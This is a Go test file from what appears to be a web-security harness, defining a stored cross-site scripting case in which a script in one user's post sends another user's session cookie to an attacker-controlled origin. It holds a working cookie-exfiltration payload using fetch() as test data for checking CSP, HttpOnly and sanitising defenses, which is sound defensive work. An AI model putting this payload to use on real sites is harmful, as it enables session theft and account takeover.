package attack

import "context"

func cookieReadByAScript() Attack {
	return Attack{
		Name: "cookie-read-by-a-script", Group: "browser", Browser: true,
		Title:  "A script in Bob's post sends Alice's session to his own site",
		Expect: []string{"transport/csp", "transport/httponly", "input/clean", "input/render"},
		Run: func(ctx context.Context, s *Scene) (bool, error) {
			evil, err := s.elsewhere(ctx)
			if err != nil {
				return false, err
			}
			text := `<script>fetch("` + evil.Origin + `/taken", {method: "POST", body: document.cookie})</script>` + hello
			return s.written(ctx, text, func(alice *seat) (bool, error) {
				return alice.within(aWhile, func() bool {
					for _, ck := range alice.Client.Cookies() { // her session's value is among what came
						if len(ck.Value) > 20 && evil.was("POST /taken", ck.Value) {
							return true
						}
					}
					return false
				}), nil
			})
		},
	}
}
